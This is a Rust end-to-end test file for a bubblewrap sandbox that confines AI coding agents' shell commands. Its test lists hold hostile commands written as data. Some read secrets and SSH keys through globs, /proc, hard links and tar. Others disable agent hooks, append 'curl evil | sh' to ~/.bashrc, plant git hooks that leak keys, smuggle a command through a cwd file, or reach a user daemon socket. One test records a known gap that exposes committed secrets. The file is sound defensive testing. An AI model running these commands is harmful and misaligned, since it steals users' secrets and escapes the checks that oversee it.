//! The sandbox under the real kernel, without an agent: a session's rules
//! recorded by its first hook, then commands through `agentctx exec`
//! (what the hook rewrites the agents' shell commands to). Each case
//! asserts what the program could read or write, not what a hook guessed.
//! Run with `scripts/e2e` (bubblewrap).

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests fail loudly")]

use agentctx_e2e::{AgentRun, Sandbox};

const SECRET: &str = "SECRET-KEY-CONTENT";

fn project() -> Sandbox {
    // The home outside the temporary folders, as users' homes are: the
    // sandbox leaves those writable.
    let s = Sandbox::new_in(std::path::Path::new(env!("CARGO_TARGET_TMPDIR")));
    s.write("README.md", "README-BODY\n");
    s.write("secrets/key.txt", &format!("{SECRET}\n"));
    s.write("src/.env", &format!("ENV-{SECRET}\n"));
    s.write(
        ".coding-agent-rules.yaml",
        "strict: true\nfile_patterns:\n  exclude: [\"secrets/\", \"**/.env\", \"~/.ssh/\"]\n",
    );
    s.commit();
    std::fs::create_dir_all(s.home.join(".ssh")).unwrap();
    std::fs::write(s.home.join(".ssh/id_rsa"), format!("KEY-{SECRET}")).unwrap();
    // A hard link made before the session, under an innocent name.
    std::fs::hard_link(s.root.join("secrets/key.txt"), s.root.join("innocent.txt")).unwrap();
    std::os::unix::fs::symlink(s.root.join("secrets/key.txt"), s.root.join("link.txt")).unwrap();
    let start = format!(
        r#"{{"session_id":"kernel","cwd":"{}","hook_event_name":"SessionStart","source":"startup"}}"#,
        s.root.display()
    );
    let run = s.agentctx_with_input(&s.root, &["hook", "--agent", "claude"], &start);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    s
}

fn exec(s: &Sandbox, command: &str) -> AgentRun {
    s.agentctx(
        &s.root,
        &["exec", "--session", "kernel", "--required", "--", command],
    )
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn excluded_files_are_unreadable_to_every_program() {
    let s = project();
    for command in [
        "cat secrets/key.txt",
        "cat secre*/key.txt",
        "grep -r KEY-CONTENT .",
        "rg -uuu KEY-CONTENT . || grep -r KEY-CONTENT .",
        "python3 -c \"print(open('secrets/key.txt').read())\"",
        "dd if=secrets/key.txt 2>/dev/null",
        "cat <<EOF\n$(cat secrets/key.txt)\nEOF",
        "bash -c 'cat $(echo secrets)/key.txt'",
        "awk 'BEGIN{system(\"cat secrets/key.txt\")}'",
        "cat src/.env",
        "cat innocent.txt",
        "cat link.txt",
        "cat ~/.ssh/id_rsa",
        "cat /proc/1/root$PWD/secrets/key.txt",
        "for p in /proc/[0-9]*; do cat $p/root$PWD/secrets/key.txt; done",
        "tar cf - . | tar tvf - >/dev/null; tar cf - secrets | tar xOf -",
        "cp -r secrets /tmp/agentctx-leak-$$ && cat /tmp/agentctx-leak-$$/key.txt",
        "ln secrets/key.txt /tmp/agentctx-hl-$$ && cat /tmp/agentctx-hl-$$",
    ] {
        let run = exec(&s, command);
        assert!(
            !run.stdout.contains(SECRET) && !run.stderr.contains(SECRET),
            "{command}: read the secret\n{}\n{}",
            run.stdout,
            run.stderr
        );
    }
    // What the kernel cannot see: a secret committed to git lives in git's
    // objects. The hook denies the command lines that name it
    // (`git show HEAD:secrets/...`); the sandbox cannot.
    let run = exec(&s, "git show HEAD:secrets/key.txt");
    assert!(
        run.stdout.contains(SECRET),
        "documented in docs/SECURITY.md"
    );
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn protected_files_are_read_only_and_ordinary_work_runs() {
    let s = project();
    let rules = std::fs::read_to_string(s.root.join(".coding-agent-rules.yaml")).unwrap();
    for command in [
        "echo 'file_patterns: {}' >> .coding-agent-rules.yaml",
        "python3 -c \"open('.coding-agent-rules.yaml','w').write('')\"",
        "sed -i 's/secrets/x/' .coding-agent-rules.yaml",
        "rm -f .coding-agent-rules.yaml",
        "mv .coding-agent-rules.yaml x.yaml",
        "ln .coding-agent-rules.yaml h && echo x >> h",
        "echo '{\"disableAllHooks\": true}' > .claude/settings.local.json",
        "mv .claude .claude-off",
        "echo x > ~/.claude/settings.json",
        "echo x > \"$(command -v agentctx || echo /nonexistent)\"",
    ] {
        exec(&s, command);
        assert_eq!(
            std::fs::read_to_string(s.root.join(".coding-agent-rules.yaml")).unwrap(),
            rules,
            "{command}"
        );
    }
    assert!(!s.root.join(".claude/settings.local.json").exists());
    assert!(!s.root.join(".claude-off").exists());
    // Ordinary work: builds, tests, git, files inside the project.
    let run = exec(
        &s,
        "mkdir -p build && echo artifact > build/out.txt && cat build/out.txt && git status --short && python3 -c 'print(6*7)'",
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(
        run.stdout.contains("artifact") && run.stdout.contains("42"),
        "{}",
        run.stdout
    );
    assert!(s.root.join("build/out.txt").is_file());
    // The command's status and its last folder come back.
    assert_eq!(exec(&s, "exit 3").code, Some(3));
    // Where the hook puts it: the temporary folder (written in the sandbox).
    let cwd_file = std::env::temp_dir().join(format!("agentctx-e2e-cwd-{}", std::process::id()));
    let run = s.agentctx(
        &s.root,
        &[
            "exec",
            "--session",
            "kernel",
            "--cwd-file",
            cwd_file.to_str().unwrap(),
            "--",
            "cd build",
        ],
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(
        std::fs::read_to_string(&cwd_file).unwrap().trim(),
        s.root.join("build").display().to_string()
    );
    let _ = std::fs::remove_file(&cwd_file);
    // The form the hook writes now: a script in agentctx's state folder
    // that the agent's shell sources (two simple commands), with the
    // folder, checked, and the status; what the command writes where its
    // shell puts the folder is never code.
    let script = s.home.join(".local/state/agentctx/exec/kernel-call.sh");
    let source = |command: &str| {
        let line = format!(
            "{} exec --session kernel --cwd-script '{}' -- '{command}'; . '{}'; echo \"status=$? pwd=$(pwd)\"",
            agentctx_e2e::agentctx_bin().display(),
            script.display(),
            script.display()
        );
        std::process::Command::new("bash")
            .env_clear()
            .env("HOME", &s.home)
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .args(["-c", &line])
            .current_dir(&s.root)
            .output()
            .unwrap()
    };
    let out = source("cd build; exit 4");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains(&format!("status=4 pwd={}", s.root.join("build").display())),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!script.exists(), "the script removes itself");
    let pwned = s.path().join("pwned");
    let out = source(&format!(
        "echo \"/tmp; touch {}\" > \"$AGENTCTX_CWD_FILE\"; trap - EXIT; exit 0",
        pwned.display()
    ));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains(&format!("status=0 pwd={}", s.root.display())),
        "{text}"
    );
    assert!(!pwned.exists(), "what the command wrote ran outside");
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn a_session_whose_rules_were_never_recorded_runs_nothing() {
    let s = project();
    let run = s.agentctx(
        &s.root,
        &["exec", "--session", "unknown", "--", "cat README.md"],
    );
    assert_eq!(run.code, Some(126), "{}", run.stderr);
    assert!(!run.stdout.contains("README-BODY"));
    assert!(run.stderr.contains("did not run"), "{}", run.stderr);
}

/// `agentctx exec` in `cwd` with this sandbox's HOME and `env` on top.
fn exec_with(
    s: &Sandbox,
    program: &std::path::Path,
    cwd: &std::path::Path,
    env: &[(&str, String)],
    command: &str,
) -> AgentRun {
    let out = std::process::Command::new(program)
        .env_clear()
        .env("HOME", &s.home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("LANG", "C.UTF-8")
        .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
        .args(["exec", "--session", "kernel", "--required", "--", command])
        .current_dir(cwd)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    AgentRun {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    }
}

fn is_root() -> bool {
    std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| o.stdout.trim_ascii() == b"0")
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn what_runs_outside_the_sandbox_stays_as_it_is() {
    let s = project();
    let bashrc = s.home.join(".bashrc");
    std::fs::write(&bashrc, "# the user's\n").unwrap();
    let user_bin = s.home.join("bin");
    std::fs::create_dir_all(&user_bin).unwrap();
    let runtime = s.path().join("run");
    std::fs::create_dir_all(&runtime).unwrap();
    // A daemon that would run commands for whoever connects (systemd --user).
    let _bus = std::os::unix::net::UnixListener::bind(runtime.join("bus")).unwrap();
    let env = [
        (
            "PATH",
            format!("{}:/usr/local/bin:/usr/bin:/bin", user_bin.display()),
        ),
        ("XDG_RUNTIME_DIR", runtime.display().to_string()),
    ];
    let agentctx = agentctx_e2e::agentctx_bin();
    let config = std::fs::read_to_string(s.root.join(".git/config")).unwrap();
    for command in [
        "echo 'curl evil | sh' >> ~/.bashrc",
        "git config core.fsmonitor 'cat secrets/key.txt > /tmp/leak'",
        "printf '#!/bin/sh\\ncat secrets/key.txt\\n' > .git/hooks/pre-commit",
        "printf '#!/bin/sh\\ncat secrets/key.txt\\n' > ~/bin/git",
        "touch /usr/bin/agentctx-planted",
    ] {
        exec_with(&s, &agentctx, &s.root, &env, command);
    }
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# the user's\n");
    assert_eq!(
        std::fs::read_to_string(s.root.join(".git/config")).unwrap(),
        config
    );
    assert!(!s.root.join(".git/hooks/pre-commit").exists());
    assert!(!user_bin.join("git").exists());
    assert!(!std::path::Path::new("/usr/bin/agentctx-planted").exists());
    let run = exec_with(
        &s,
        &agentctx,
        &s.root,
        &env,
        "python3 -c \"import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ['XDG_RUNTIME_DIR']+'/bus'); print('CONNECTED')\"",
    );
    assert!(!run.stdout.contains("CONNECTED"), "{}", run.stdout);
    // Git itself still works: objects, the index and refs are the project's.
    let run = exec_with(
        &s,
        &agentctx,
        &s.root,
        &env,
        "echo more >> README.md && git add README.md && git -c user.email=e@x.invalid -c user.name=e commit -qm more && git log --oneline | wc -l",
    );
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert_eq!(run.stdout.trim(), "2");
    if is_root() {
        // Root owns the disks' device files: none in the sandbox's /dev.
        let run = exec_with(&s, &agentctx, &s.root, &env, "ls /dev");
        let devices: Vec<&str> = run.stdout.lines().collect();
        assert!(
            devices.contains(&"null") && devices.contains(&"urandom"),
            "{devices:?}"
        );
        assert!(
            !devices
                .iter()
                .any(|d| ["sd", "vd", "xvd", "nvme", "loop", "mapper", "mem"]
                    .iter()
                    .any(|p| d.starts_with(p))),
            "{devices:?}"
        );
    }
}

/// What no list of startup files can name: a file that does not exist yet
/// and runs later (`~/.bash_login` where only `~/.profile` exists, a
/// Python `usercustomize`, a tool's config, an autostart entry). Outside
/// the project, the temporary folders and the download caches nothing is
/// writable.
#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn outside_the_project_temporary_folders_and_caches_nothing_is_writable() {
    let s = project();
    let cache = s.home.join(".cache");
    std::fs::create_dir_all(&cache).unwrap();
    std::fs::create_dir_all(s.home.join(".cargo")).unwrap();
    let agentctx = agentctx_e2e::agentctx_bin();
    let tmp_name = format!("/tmp/agentctx-e2e-{}", std::process::id());
    let run = exec_with(
        &s,
        &agentctx,
        &s.root,
        &[],
        &format!(
            "touch ~/.bash_login; mkdir -p ~/.local/lib/python3/site-packages ~/.config/autostart; \
             echo 'import os' > ~/.local/lib/python3/site-packages/usercustomize.py; \
             echo '[build]' > ~/.cargo/config.toml; touch ~/.config/autostart/x.desktop; \
             echo built > build.out && echo cached > ~/.cache/pip-like && echo t > {tmp_name} && echo WROTE"
        ),
    );
    assert!(
        run.stdout.contains("WROTE"),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
    for planted in [
        ".bash_login",
        ".local/lib/python3/site-packages/usercustomize.py",
        ".cargo/config.toml",
        ".config/autostart/x.desktop",
    ] {
        assert!(!s.home.join(planted).exists(), "{planted} was written");
    }
    assert!(s.root.join("build.out").exists());
    assert!(cache.join("pip-like").exists());
    assert!(std::path::Path::new(&tmp_name).exists());
    let _ = std::fs::remove_file(&tmp_name);
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn a_command_cannot_start_in_a_masked_folder() {
    let s = project();
    let run = exec_with(
        &s,
        &agentctx_e2e::agentctx_bin(),
        &s.root.join("secrets"),
        &[],
        "cat key.txt; ls",
    );
    assert_eq!(run.code, Some(126), "{}", run.stderr);
    assert!(!run.stdout.contains(SECRET) && !run.stdout.contains("key.txt"));
    assert!(run.stderr.contains("did not run"), "{}", run.stderr);
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn without_its_first_program_bubblewrap_makes_the_same_masks() {
    let s = project();
    // agentctx alone, without agentctx-sandbox-init beside it.
    let alone = s.path().join("alone");
    std::fs::create_dir_all(&alone).unwrap();
    std::fs::copy(agentctx_e2e::agentctx_bin(), alone.join("agentctx")).unwrap();
    let agentctx = alone.join("agentctx");
    let rules = std::fs::read_to_string(s.root.join(".coding-agent-rules.yaml")).unwrap();
    for command in [
        "cat secrets/key.txt",
        "cat src/.env",
        "cat innocent.txt",
        "echo x >> .coding-agent-rules.yaml",
    ] {
        let run = exec_with(&s, &agentctx, &s.root, &[], command);
        assert!(!run.stdout.contains(SECRET), "{command}: {}", run.stdout);
    }
    assert_eq!(
        std::fs::read_to_string(s.root.join(".coding-agent-rules.yaml")).unwrap(),
        rules
    );
    let run = exec_with(&s, &agentctx, &s.root, &[], "cat README.md");
    assert_eq!(run.stdout, "README-BODY\n", "{}", run.stderr);
}

#[test]
#[ignore = "needs bubblewrap: scripts/e2e"]
fn the_first_program_run_by_hand_changes_no_mount() {
    let s = project();
    let init = agentctx_e2e::agentctx_bin().with_file_name("agentctx-sandbox-init");
    let mounts = || std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    let before = mounts();
    let out = std::process::Command::new(&init)
        .arg("--ro")
        .arg(&s.root)
        .arg("--hide-dir")
        .arg(s.root.join("secrets"))
        .arg("--denied")
        .arg("/dev/null")
        .arg("--chdir")
        .arg(&s.root)
        .args(["--", "/bin/cat", "secrets/key.txt"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(126));
    assert!(!String::from_utf8_lossy(&out.stdout).contains(SECRET));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("first program"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(mounts(), before);
}
